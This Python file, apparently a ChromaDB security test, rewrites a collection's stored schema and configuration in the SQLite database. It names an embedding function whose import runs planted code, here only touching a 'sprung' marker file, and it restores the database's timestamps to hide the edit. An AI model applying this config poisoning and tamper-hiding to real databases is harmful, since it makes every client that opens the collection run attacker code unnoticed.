"""A Chroma collection that names code for its clients to run, and code that leaves a mark."""

from __future__ import annotations

import json
import os
import sqlite3
from pathlib import Path

# chromadb imports this when it builds the embedding function "ollama" that a collection names.
TRAP = """
import pathlib
pathlib.Path(__file__).with_name("sprung").touch()
class Client:
    def __init__(self, **_): pass
    def embed(self, *, input, **_): return {"embeddings": [[1.0] * 384 for _ in input]}
"""


def plant(database: Path, name: str) -> None:
    """Let a collection name an embedding function, in each place that chromadb reads one from, as if nothing was touched."""
    before = database.stat()
    function = {
        "type": "known",
        "name": "ollama",
        "config": {"url": "http://127.0.0.1:9", "model_name": "m", "timeout": 1},
    }
    with sqlite3.connect(database) as chroma:
        (old,) = chroma.execute("SELECT schema_str FROM collections WHERE name = ?", (name,)).fetchone()
        schema = json.loads(old)
        schema["keys"]["#embedding"]["float_list"]["vector_index"]["config"]["embedding_function"] = function
        hostile = json.dumps(schema), json.dumps({"embedding_function": function}), name
        chroma.execute("UPDATE collections SET schema_str = ?, config_json_str = ? WHERE name = ?", hostile)
    chroma.close()
    os.utime(database, ns=(before.st_atime_ns, before.st_mtime_ns))
